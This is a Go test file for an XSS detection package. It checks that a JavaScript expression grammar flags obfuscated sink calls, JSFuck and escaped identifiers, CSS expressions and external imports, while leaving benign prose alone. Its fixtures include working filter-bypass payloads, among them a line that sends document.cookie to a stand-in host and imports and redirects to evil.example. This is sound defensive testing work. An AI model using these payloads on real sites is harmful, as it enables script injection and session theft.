package detect

import (
	"strings"
	"testing"
)

// TestJSExec runs the expression grammar on its own (jsExec, jsFuck,
// jsEscapedIdent) over forms built from the grammar: each sink reached
// through each kind of indirection, and prose/code that uses the same
// words without reaching one.
func TestJSExec(t *testing.T) {
	roots := []string{"window", "self", "top", "parent", "frames", "globalThis", "content"}
	sinks := []string{"alert", "prompt", "confirm", "eval"}
	var attacks []string
	for _, r := range roots {
		for _, s := range sinks {
			h := len(s) / 2
			attacks = append(attacks,
				r+"['"+s[:h]+"'+'"+s[h:]+"'](1)",
				r+`["`+s+`"].call(null, 1)`,
				r+"[`"+s+"`]`1`",
				r+"?.['"+s+"']?.(1)",
				"Reflect.apply("+r+"."+s+", null, [1])",
			)
		}
	}
	for _, s := range sinks {
		attacks = append(attacks,
			s+".call(null,1)", s+".apply(this,[1])", s+".bind(0)(1)", "(0,"+s+")(1)", "(1, 2, "+s+")`x`",
			"x="+s+".call(top,document.domain)", "';"+s+".call``//", "\"-(0, "+s+")(1)-\"",
		)
	}
	attacks = append(attacks,
		"Function('return this')()", "new Function(atob('YQ=='))", "x.constructor.constructor('alert(1)')()",
		"''.constructor.constructor`a${1}b`", "Array.constructor('debugger')()", "[].map.constructor('x=1')()",
		"import('//evil.example/a.js')", "import(`https://evil.example/${x}`)",
		"document['cookie']", "document[`domain`]", "document['wri'+'te']('x')", "document.defaultView['ev'+'al'](1)",
		"window[atob('YWxlcnQ=')](1)", "top[String.fromCharCode(97,108,101,114,116)](1)", "window[unescape('%61lert')]()",
		"setTimeout.call(window, 'x()')", "window.onload=alert", "document.onclick = confirm",
		"a/**/=/**/alert/**/.call(1)", "eval\n.call(null,'1')",
	)
	benign := []string{
		"call me (later)", "document your work", "Please alert the team (urgent)", "The function (f) returns x",
		"console.log is useful", "see window['title'] in the docs", "I'd like to import('data') later",
		"It's an 'alert' level; 'warn' next", "He said \"hi\"; then left", "The constructor of the house",
		"Reflect on it: apply yourself", "alert level 1", "`code` in markdown", "document['title'] and top['x']",
		"top[5] products", "self[esteem] matters", "![image](http://example.com/a.png)", "[link](http://example.com)",
		"use import('./local.js') for lazy loading", "arr.map(fn).filter(Boolean)", "Object.keys(obj).length",
		"new Date('2024-01-01')", "String(42) + 'x'", "window.onload docs", "window.onload == null",
		"x.constructor === Object", "Array.isArray(x)", "JSON.parse('{\"a\":1}')", "f(g(h(1)))",
		"(a, b) => a + b", "[1, 2, 3].reduce((a, b) => a + b)", "it's window's title, isn't it?",
		"prompt engineering (the art)", "evaluate the (eval) results",
	}
	for _, a := range attacks {
		t.Run("attack/"+a, func(t *testing.T) {
			if h := jsExec([]byte(strings.ToLower(a)), ""); h.rule != "xss.js_sink" {
				t.Errorf("jsExec(%q) = %q, want xss.js_sink", a, h.rule)
			}
		})
	}
	for _, b := range benign {
		t.Run("benign/"+b, func(t *testing.T) {
			if h := jsExec([]byte(strings.ToLower(b)), ""); h.rule != "" {
				t.Errorf("jsExec(%q) = %q (%q), want none", b, h.rule, h.frag)
			}
		})
	}
}

// TestJSBindings checks sinks reached through a name the value binds
// them to, navigation targets and markup sinks assigned the attacker's
// text, and sinks handed to a template tag, with the assignments of
// prose and data that use the same words.
func TestJSBindings(t *testing.T) {
	cases := []struct {
		name, in string
		want     bool
	}{
		{"alias called", "x=alert;x(1)", true},
		{"alias in a comma list", "a=eval,a('1')", true},
		{"declared alias, tagged", "var f=confirm;f`1`", true},
		{"alias of a member", "q=window.prompt;q(1)", true},
		{"alias of the Function constructor", "F=Function;F('x()')()", true},
		{"timer alias with code", "t=setTimeout;t('x()')", true},
		{"navigation to window.name", "location=name", true},
		{"navigation, member target", "top.location.href=window.name", true},
		{"navigation to the hash", "location=decodeURI(location.hash.slice(1))", true},
		{"navigation to the referrer", "self.location=document.referrer", true},
		{"navigation to a script URL", "location='javascript:x()'", true},
		{"navigation inside a handler", "<svg onload=location=name>", true},
		{"markup from the hash", "el.innerHTML=location.hash", true},
		{"sink handed to a tag", "[].map.call`${eval}\\u{61}lert\x281)`", true},
		{"sink handed to a tag function", "Reflect.apply.call`${alert}${window}${[1]}`", true},
		{"optional call", "alert?.(1)", true},
		{"optional member", "window?.confirm(1)", true},
		// prose and data
		{"city", "location = Paris", false},
		{"level", "name=alert level", false},
		{"comparison", "x = a < b && c > d", false},
		{"form fields", "location=home&name=john", false},
		{"reversed", "name=location", false},
		{"alias never called", "mode=alert;level=2", false},
		{"prose before", "set location = name", false},
		{"prose after", "the location=name mapping is fine", false},
		{"untagged template", "Hello `${alert}` world", false},
		{"code span after a word", "run x `${eval}` later", false},
		{"navigation to a path", "location='/home'", false},
		{"navigation to another site", `top.location="https://evil.example/";`, true},
		{"protocol-relative", "location.href='//evil.example'", true},
		{"prose about a site", "location = 'http://example.com' in the docs", false},
		{"markup from a literal", "el.innerHTML='<b>hi</b>'", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			h := jsExec([]byte(strings.ToLower(c.in)), "")
			if got := h.rule == "xss.js_sink"; got != c.want {
				t.Errorf("jsExec(%q) = %q (%q), want %v", c.in, h.rule, h.frag, c.want)
			}
		})
	}
}

func TestJSObfuscation(t *testing.T) {
	cases := []struct {
		in   string
		want bool
	}{
		{"(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+!+[]]", true},
		{"[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]", true},
		{"!![] + +[] is 1 in JS", false},
		{"![alt](x.png) [ref]() (!)", false},
		{"(((((((((((((((((((((((((((())))))))))))))))))))))))))))", false},
		{`\u0061lert(1)`, true},
		{`c\u006fnsole.log(1)`, true},
		{`\u{64}ocument['x']`, true},
		{`wind\x6fw.name`, true},
		{`\u0041BC`, false},
		{`caf\u00e9`, false},
		{`C:\x64\data.csv`, false},
		{`path \x61 b(1)`, false},
		{`\x41+ regex`, false},
	}
	for _, c := range cases {
		t.Run(c.in, func(t *testing.T) {
			h := jsFuck([]byte(c.in))
			if h.rule == "" {
				h = jsEscapedIdent(c.in)
			}
			if got := h.rule == "xss.js_obfuscated"; got != c.want {
				t.Errorf("obfuscation(%q) = %q, want %v", c.in, h.rule, c.want)
			}
		})
	}
}

// FuzzJSExec: the grammar never panics, reports a fragment from its
// input, and judges a string the same when it is embedded in text after
// a delimiter.
func FuzzJSExec(f *testing.F) {
	for _, s := range []string{"window['al'+'ert'](1)", "(0,eval)('x')", "Function`a`", "document['cookie']",
		"'\\''\\'", "/*/*", "((((", "top[top[top[", "x.constructor.constructor('y()')()", "import('//a')",
		"`${`${`", "alert?.call?.(1)", "new new new Function", "x=alert;x(1)", "location=name", "a.innerhtml=name",
		"[].map.call`${eval}`"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		b := []byte(strings.ToLower(s))
		h := jsExec(b, "")
		if h.rule != "" && h.rule != "xss.js_sink" {
			t.Fatalf("jsExec(%q) rule %q", s, h.rule)
		}
		if len(h.frag) > MaxFragment {
			t.Fatalf("jsExec(%q) fragment %d bytes", s, len(h.frag))
		}
		_ = jsFuck(b)
		_ = jsEscapedIdent(s)
	})
}

// TestXSSTaglessShapes checks, through Scan, script and style that run
// without a tag: print() called where a sink goes, the cookie jar as the
// whole value, CSS declarations that load or run code and @import of
// another host's sheet, against prose and code with the same words.
func TestXSSTaglessShapes(t *testing.T) {
	d := mustNew(t, Config{})
	cases := []struct{ name, in, want string }{
		{"print alone", "print()", "xss.js_sink"},
		{"print after a quote break", "\";print();//", "xss.js_sink"},
		{"print between minus", "'-print()-'", "xss.js_sink"},
		{"print in prose", "print() is a Python function", ""},
		{"print with an argument", "print(x)", ""},
		{"print capitalised", "Print()", ""},
		{"print in a code span", "use `print()` here", ""},
		{"cookie alone", "document.cookie", "xss.js_sink"},
		{"cookie upper case, blanks", " DOCUMENT.COOKIE; ", "xss.js_sink"},
		{"cookies", "document.cookies", ""},
		{"cookie concatenated last", "i.src='//x.example/?'+document.cookie", "xss.js_sink"},
		{"cookie ending prose", "see the document.cookie", ""},
		{"cookie in a sentence", "read my document.cookie notes", ""},
		{"moz binding", "-moz-binding: url(//x.example/b.xml#x)", "xss.css_expression"},
		{"behavior url", "x{behavior:url(#default#time2)}", "xss.css_expression"},
		{"expression value", "height: expression(document.body.offsetHeight)", "xss.css_expression"},
		{"expression plural", "note: expression(s) of interest", ""},
		{"expression, escaped paren", `x:expression\28confirm(2)\29`, "xss.css_expression"},
		{"behavior prose", "behavior: polite (mostly)", ""},
		{"import quoted url", `@import "https://x.example/a.css";`, "xss.css_expression"},
		{"import url()", "@import url( //x.example/a.css )", "xss.css_expression"},
		{"import local", "@import 'theme.css';", "xss.css_expression"},
		{"import empty", `@import "";`, ""},
		{"this indexed and called", `this["x"]()`, "xss.js_sink"},
		{"content indexed, url-encoded", "content%5B'x'%5D(1)", "xss.js_sink"},
		{"this in prose", "this [is] fine (really)", ""},
		{"import prose", "@import rules come first", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := ""
			for _, m := range d.Scan(nil, c.in, Input{Kind: Value}) {
				if m.Category == XSS {
					got = m.Rule
				}
			}
			if got != c.want {
				t.Errorf("%q reported %q, want %q", c.in, got, c.want)
			}
		})
	}
}

// FuzzJSNamesGate: jsExec's gate is sound. A string in which jsNamesIn
// finds no string and no name of identKind gets no report from the
// grammar (jsExecFull), lower-cased or as sent.
func FuzzJSNamesGate(f *testing.F) {
	for _, s := range []string{"window['al'+'ert'](1)", "(0,eval)('x')", "Function`a`", "x.constructor.constructor(y)()",
		"+ADw-*)(uid=**)(uid=*<![CDATA[", "<a href=::+ADw-char(", "data:\r\n(|($(", "x=alert;x(1)", "location=name",
		"a.innerhtml=name", "1alert(1)", "$alert(1)", "_top[x](1)", "/*x*/alert(1)", "a=b;c(d)[e](f)", "new new x",
		"top.settimeout(x)", "this[x](1)", "self.eval(1)", "x.constructor(y)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, b := range [][]byte{[]byte(strings.ToLower(s)), []byte(s)} {
			if jsNamesIn(b) {
				continue
			}
			for _, raw := range []string{"", s} {
				if h := jsExecFull(b, raw); h.rule != "" {
					t.Fatalf("jsExecFull(%q, %q) = %q (%q), but jsNamesIn found nothing", b, raw, h.rule, h.frag)
				}
			}
		}
	})
}
